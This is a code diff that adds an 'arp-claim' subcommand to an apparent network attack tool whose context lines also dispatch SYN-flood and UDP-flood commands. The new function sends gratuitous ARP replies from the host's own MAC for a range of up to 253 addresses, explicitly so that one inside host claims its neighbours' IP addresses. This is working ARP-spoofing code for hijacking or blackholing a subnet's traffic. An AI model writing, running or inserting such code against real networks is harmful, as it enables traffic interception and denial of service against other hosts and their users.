@@ -370,6 +370,27 @@ def repl(server: str, timeout: float) -> int:
     return 0
 
 
+def arp_claim(interface: str, first: str, count: int, rate: float) -> int:
+    """Send a gratuitous ARP (an unasked reply from the address to itself) for ``count``
+    addresses from ``first`` up, from this host's MAC on ``interface``, ``rate`` a
+    second: an inside host claiming its neighbours' addresses before they speak."""
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sock.bind((interface, 0))
+    mac = Path(f"/sys/class/net/{interface}/address").read_text().strip()
+    own = bytes.fromhex(mac.replace(":", ""))
+    start = struct.unpack("!I", socket.inet_aton(first))[0]
+    started = time.monotonic()
+    for n in range(count):
+        ip = struct.pack("!I", start + n)
+        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, ip, b"\xff" * 6, ip)
+        sock.send(b"\xff" * 6 + own + struct.pack("!H", 0x0806) + arp)
+        delay = started + (n + 1) / rate - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+    _line({"sent": count, "seconds": round(time.monotonic() - started, 3)})
+    return 0
+
+
 # ---------------------------------------------------------------------------- main
 
 
@@ -402,6 +423,11 @@ def main(argv: Sequence[str] | None = None) -> int:
     p.add_argument("dst")
     p.add_argument("--seconds", type=float, default=3.0)
     p.add_argument("--rate", type=float, default=20000.0)
+    p = sub.add_parser("arp-claim")
+    p.add_argument("first")
+    p.add_argument("--interface", default="eth0")
+    p.add_argument("--count", type=int, default=253)
+    p.add_argument("--rate", type=float, default=100.0)
     p = sub.add_parser("pac")
     p.add_argument("listen_ip")
     p.add_argument("--log", type=Path, required=True)
@@ -421,6 +447,8 @@ def main(argv: Sequence[str] | None = None) -> int:
         return syn_flood(args.dst, args.port, args.count, args.rate)
     if args.command == "udp-flood":
         return udp_flood(args.dst, args.seconds, args.rate)
+    if args.command == "arp-claim":
+        return arp_claim(args.interface, args.first, args.count, args.rate)
     if args.command == "pac":
         return pac(args.listen_ip, args.log, args.cdn_after)
     return repl(args.server, args.timeout)
